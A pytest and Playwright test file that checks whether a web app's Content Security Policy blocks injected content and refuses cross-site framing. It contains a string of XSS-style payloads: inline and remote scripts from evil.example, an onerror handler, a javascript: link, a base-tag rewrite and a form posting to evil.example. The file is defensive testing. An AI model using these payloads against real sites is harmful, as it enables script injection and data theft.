"""What a real browser does with something that got into a page: nothing."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page

from tests.attack.conftest import Target

pytestmark = pytest.mark.browser

SMUGGLED = """() => {
    const add = (name, change) => {
        const made = document.createElement(name);
        change(made);
        document.body.append(made);
        return made;
    };
    add("script", (e) => { e.textContent = "window.ran = 'inline script'"; });
    add("div", (e) => { e.innerHTML = "<img src=x onerror=\\"window.ran = 'handler'\\">"; });
    add("script", (e) => { e.src = "https://evil.example/x.js"; });
    add("script", (e) => { e.src = "data:text/javascript,window.ran='data'"; });
    add("style", (e) => { e.textContent = "h1 { display: none }"; });
    add("a", (e) => { e.href = "javascript:window.ran='address'"; e.textContent = "x"; }).click();
    add("base", (e) => { e.href = "https://evil.example/"; });
    const frame = add("iframe", (e) => { e.src = "/"; });
    const form = add("form", (e) => { e.action = "https://evil.example/"; e.method = "post"; });
    form.submit();
    return frame !== null;
}"""


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page that may complain: the suite's own fixture takes each complaint for a failure."""
    context = browser.new_context(locale="pl-PL")
    yield context.new_page()
    context.close()


def test_the_browser_runs_nothing_that_was_smuggled_in(page: Page, target: Target, live_url: str) -> None:
    broken: list[str] = []
    # Whatever reached the other host would be answered, and run.
    page.route("https://evil.example/**", lambda route: route.fulfill(body="window.ran = 'foreign'"))
    page.on("console", lambda message: broken.append(message.text))
    page.goto(f"{live_url}/events/")
    page.evaluate(SMUGGLED)
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") is None
    assert page.locator("h1").is_visible()
    assert page.url == f"{live_url}/events/"
    assert page.evaluate("document.baseURI") == f"{live_url}/events/"
    # Each attempt was seen and refused by the policy, so that this test would notice a weaker one.
    told = " ".join(broken)
    for directive in ("script-src", "style-src", "form-action", "frame"):
        assert directive in told, broken


def test_no_other_site_shows_ours_in_a_frame(page: Page, target: Target, live_url: str) -> None:
    page.route(
        "https://office.example/",
        lambda route: route.fulfill(body=f"<iframe src={live_url}/sign-in></iframe>"),
    )
    page.goto("https://office.example/")
    page.wait_for_timeout(300)
    assert [
        frame for frame in page.frames if frame.url.startswith(live_url) and frame.locator("h1").count()
    ] == []
